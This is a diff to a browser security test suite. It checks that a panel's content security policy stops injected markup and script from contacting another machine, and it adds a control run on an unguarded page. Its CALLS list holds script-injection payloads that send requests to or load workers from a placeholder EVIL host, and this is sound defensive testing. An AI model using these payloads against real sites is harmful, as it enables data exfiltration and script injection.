@@ -2,6 +2,7 @@
  * Attempts to break out of the panel's page: texts that are markup, and, as if one of them had
  * become markup, every way that a page has to run a script or to ask another machine.
  */
+import type { Page } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
 import { noBrowser } from '../browser';
 import { panelOpener } from './openPanel';
@@ -46,6 +47,7 @@ const CALLS = [
   `new Image().src = '${EVIL}/i.png'`,
   `import('${EVIL}/m.js').catch(() => {})`,
   `new Worker('${EVIL}/w.js')`,
+  `new Worker('data:text/javascript,fetch("${EVIL}/data")')`,
   `new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/blob")'])))`,
   `new FontFace('f', 'url(${EVIL}/f.woff2)').load().catch(() => {})`,
   `setTimeout('window.caught = 9')`,
@@ -56,20 +58,33 @@ const CALLS = [
   `document.body.append(Object.assign(document.createElement('form'), { action: '${EVIL}/form', id: 'f' })), document.getElementById('f').submit()`,
 ];
 
+const ATTEMPTS = [...MARKUP.map((text) => ['markup', text] as const), ...CALLS.map((text) => ['call', text] as const)];
+const UNGUARDED = 'https://unguarded.test/';
+/** Waits for a click or for what renders it, or is refused on any page. */
+const isStaying = (text: string): boolean =>
+  ['<base ', 'javascript:', '![p]', '{{constructor', `new Worker('${EVIL}`].some((start) => text.startsWith(start));
+
 describe.skipIf(noBrowser)('out of the panel', () => {
   const open = panelOpener();
 
-  const caught = async ({ page }: Awaited<ReturnType<typeof open>>) =>
-    page.evaluate(() => (window as { caught?: number }).caught);
+  const caught = (page: Page) => page.evaluate(() => (window as { caught?: number }).caught);
   /** Requests that leave the page for the other machine; the security policy stops others. */
-  async function listen(panel: Awaited<ReturnType<typeof open>>): Promise<string[]> {
+  async function listen(page: Page): Promise<string[]> {
     const asked: string[] = [];
-    await panel.page.route(`${EVIL}/**`, (route) => {
+    await page.route(`${EVIL}/**`, (route) => {
       asked.push(route.request().url());
       return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.caught = 99' });
     });
+    // No route sees these.
+    page.removeAllListeners('websocket');
+    page.on('websocket', (socket) => asked.push(socket.url()));
     return asked;
   }
+  const attempt = async (page: Page, sort: string, text: string) => {
+    if (sort === 'markup')
+      await page.evaluate((html) => document.body.append(document.createRange().createContextualFragment(html)), text);
+    else await page.evaluate(text).catch(() => undefined);
+  };
 
   it('no text of a symbol, a picture or an error leads', async () => {
     const panel = await open(
@@ -78,24 +93,37 @@ describe.skipIf(noBrowser)('out of the panel', () => {
         pictures: TRAPS.map((trap) => picture([readSymbol(trap, square(1, 1, 9))], { name: trap })),
       }),
     );
-    const asked = await listen(panel);
-    expect(await panel.page.locator('.text-content').allTextContents()).toEqual(expect.arrayContaining([TRAPS[0]]));
-    await panel.page.locator('[role="tab"]').nth(1).click();
-    expect([asked, await caught(panel), panel.errors]).toEqual([[], undefined, []]);
-    const links = await panel.page.locator('a[href], form, iframe, base').count();
+    const { page } = panel;
+    const asked = await listen(page);
+    expect(await page.locator('.text-content').allTextContents()).toEqual(expect.arrayContaining([TRAPS[0]]));
+    await page.locator('[role="tab"]').nth(1).click();
+    expect([asked, await caught(page), panel.errors]).toEqual([[], undefined, []]);
+    const links = await page.locator('a[href], form, iframe, base').count();
     expect(links).toBe(0);
   });
 
-  it.each([...MARKUP.map((text) => ['markup', text]), ...CALLS.map((text) => ['call', text])])(
-    'no %s leads that got into the page: %s',
-    async (sort, text) => {
-      const panel = await open(state({ symbols: [card('x')] }));
-      const asked = await listen(panel);
-      if (sort === 'markup')
-        await panel.page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), text);
-      else await panel.page.evaluate(text).catch(() => undefined);
-      await panel.page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
-      expect([asked, await caught(panel)]).toEqual([[], undefined]);
-    },
-  );
+  it.each(ATTEMPTS)('no %s leads that got into the page: %s', async (sort, text) => {
+    const { page } = await open(state({ symbols: [card('x')] }));
+    const asked = await listen(page);
+    await attempt(page, sort, text);
+    await page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
+    expect([asked, await caught(page)]).toEqual([[], undefined]);
+  });
+
+  it('every one of them leads out of a page that has no such policy', async () => {
+    const { page } = await open(state());
+    const asked = await listen(page);
+    await page.route(UNGUARDED, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><body>' }));
+    const stayed: string[] = [];
+    for (const [sort, text] of ATTEMPTS) {
+      await page.goto(UNGUARDED);
+      asked.length = 0;
+      await attempt(page, sort, text);
+      // A page that is just leaving answers nothing.
+      const hasLed = async () => asked.length > 0 || (await caught(page).catch(() => undefined)) !== undefined;
+      for (let tries = 0; tries < 20 && !(await hasLed()); tries++) await page.waitForTimeout(25);
+      if (!(await hasLed())) stayed.push(text);
+    }
+    expect(stayed).toEqual(ATTEMPTS.map(([, text]) => text).filter(isStaying));
+  });
 });
